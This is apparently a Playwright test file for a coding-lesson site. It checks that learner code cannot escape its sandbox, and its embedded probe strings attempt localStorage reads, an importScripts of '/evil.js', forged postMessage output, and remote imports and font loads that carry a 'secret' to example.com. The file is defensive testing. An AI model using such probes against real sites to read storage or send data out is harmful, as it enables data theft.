import { expect, test } from "./fixtures";
import { replaceCode, terminalRows } from "./helpers";

const ESCAPE_ATTEMPTS = `
const attempts: Record<string, () => unknown> = {
  document: () => (globalThis as any).document.title,
  localStorage: () => (globalThis as any).localStorage.getItem("finger:progress"),
  indexedDB: () => (globalThis as any).indexedDB.open("stolen"),
  fetch: () => (globalThis as any).fetch("/"),
  XMLHttpRequest: () => new (globalThis as any).XMLHttpRequest(),
  WebSocket: () => new (globalThis as any).WebSocket("ws://localhost:1"),
  importScripts: () => (globalThis as any).importScripts("/evil.js"),
  postMessage: () => (globalThis as any).postMessage({ type: "output", stream: "stdout", text: "FORGED", time: 0 }),
  "self.postMessage": () => (self as any).postMessage({ type: "output", stream: "stdout", text: "FORGED", time: 0 }),
  onmessage: () => { (self as any).onmessage = () => {}; if ((self as any).onmessage.length === 0) throw new Error("replaced"); },
};
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    attempt();
    console.log(name + ": ALLOWED");
  } catch {
    console.log(name + ": blocked");
  }
}
console.log("sandbox test done");
`;

test("learner code cannot reach the page, its storage or the network", async ({ strictPage: page }) => {
  await page.goto("/lessons/finger-stage-1/refuse-connections/");
  await page.evaluate(() => localStorage.setItem("secret", "do not read"));
  await replaceCode(page, ESCAPE_ATTEMPTS);
  await page.getByRole("button", { name: "Run" }).click();
  const terminal = terminalRows(page);
  await expect(terminal).toContainText("sandbox test done");
  const text = await terminal.innerText();
  for (const name of ["document", "localStorage", "indexedDB", "fetch", "XMLHttpRequest", "WebSocket", "importScripts", "postMessage", "self.postMessage", "onmessage"]) {
    expect(text, name).toContain(`${name}: blocked`);
  }
  expect(text).not.toContain("ALLOWED");
  expect(text).not.toContain("FORGED");
  // The runner still works after the attempts.
  await replaceCode(page, 'import { reactor } from "twisted/internet";\nreactor.run();\n');
  await page.getByRole("button", { name: "Run" }).click();
  await expect(page.getByRole("status").filter({ hasText: /^Running/ })).toBeVisible();
});

/** Each probe tries to reach the network or lasting storage; it prints "<name>: blocked" when it cannot. */
const NETWORK_PROBES = `import { reactor } from "twisted/internet";
const scope: any = globalThis;
const probes: Record<string, () => unknown> = {
  "remote import": () => (0, eval)('import("https://example.com/x.js?code=secret")'),
  "same-origin import": () => (0, eval)('import("/x.js?code=secret")'),
  "data import": () => (0, eval)('import("data:text/javascript,console.log(\\\\"DATA RAN\\\\")")'),
  "blob import": () => {
    const url = URL.createObjectURL(new Blob(['console.log("BLOB RAN")'], { type: "text/javascript" }));
    return (0, eval)('import("' + url + '")');
  },
  font: () => new scope.FontFace("p", "url(/x.woff?code=secret)").load(),
  "worker fonts": () => scope.fonts.add(null),
  "file system": () => scope.webkitRequestFileSystemSync(1, 1024),
};
for (const [name, probe] of Object.entries(probes)) {
  Promise.resolve()
    .then(probe)
    .then(() => console.log(name + ": ALLOWED"), () => console.log(name + ": blocked"));
}
reactor.callLater(0.5, () => console.log("probes done"));
reactor.run();
`;

test("learner code cannot reach the network or lasting storage, by import(), fonts or the file system API", async ({ page, context }) => {
  // Requests the browser started and blocked show up as failed requests; any that reached a server has a response.
  const answered: string[] = [];
  const refused = new Map<string, string>();
  for (const source of [context, page]) {
    source.on("response", (response) => answered.push(response.url()));
    source.on("requestfailed", (request) => refused.set(request.url(), request.failure()?.errorText ?? ""));
  }
  await page.goto("/lessons/finger-stage-1/refuse-connections/");
  await replaceCode(page, NETWORK_PROBES);
  await page.getByRole("button", { name: "Run" }).click();
  const terminal = terminalRows(page);
  await expect(terminal).toContainText("probes done");
  const text = await terminal.innerText();
  for (const name of ["remote import", "same-origin import", "data import", "blob import", "font", "worker fonts", "file system"]) {
    expect(text, name).toContain(`${name}: blocked`);
  }
  expect(text).not.toContain("ALLOWED");
  expect(text).not.toContain("RAN");

  // The same, from inside the runner's worker and frame directly, with everything learner code was denied still there
  // (FontFace, fonts): the browser's own policy for the frame refuses them, not just the runner's lockdown.
  const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
  expect(frame, "the runner's sandboxed frame").toBeDefined();
  const inFrame = await frame!.evaluate(async () => {
    const outcomes: Record<string, string> = {};
    const attempt = async (name: string, probe: () => Promise<unknown>) => {
      try {
        await probe();
        outcomes[name] = "ALLOWED";
      } catch {
        outcomes[name] = "blocked";
      }
    };
    await attempt("origin", async () => {
      if (origin !== "null") throw new Error("not opaque");
    });
    await attempt("frame font", () => new FontFace("p", "url(/x.woff?code=frame)").load());
    await attempt("frame fetch", () => fetch("/x.txt?code=frame"));
    await attempt("frame localStorage", async () => localStorage.getItem("secret"));
    const script: string = "/x.js?code=frame";
    await attempt("frame import", () => import(/* webpackIgnore: true */ script));
    return outcomes;
  });
  expect(inFrame).toEqual({ origin: "ALLOWED", "frame font": "blocked", "frame fetch": "blocked", "frame localStorage": "blocked", "frame import": "blocked" });
  // The runner's workers were started in the opaque-origin frame from a blob: URL (the editor's workers are the page's).
  const workers = page.workers().filter((worker) => worker.url().startsWith("blob:null/"));
  expect(workers.length, "the runner's workers").toBeGreaterThan(0);
  for (const worker of workers) {
    const inWorker = await worker.evaluate(async () => {
      const outcomes: string[] = [];
      for (const url of ["https://example.com/x.js?code=worker", "/x.js?code=worker", "data:text/javascript,1"]) {
        try {
          await import(/* webpackIgnore: true */ url);
          outcomes.push(`${url}: ALLOWED`);
        } catch {
          outcomes.push(`${url}: blocked`);
        }
      }
      return outcomes;
    });
    for (const outcome of inWorker) expect(outcome).toMatch(/: blocked$/);
  }

  // Nothing reached any server: not the page's own, not example.com.
  expect(answered.filter((url) => /code=|example\.com|x\.woff/.test(url))).toEqual([]);
  // Each was refused by the browser's policy for the frame, before anything left the machine.
  for (const [url, why] of refused) {
    if (/code=|example\.com|x\.woff/.test(url)) expect(why, url).toMatch(/csp|ERR_BLOCKED/);
  }
});
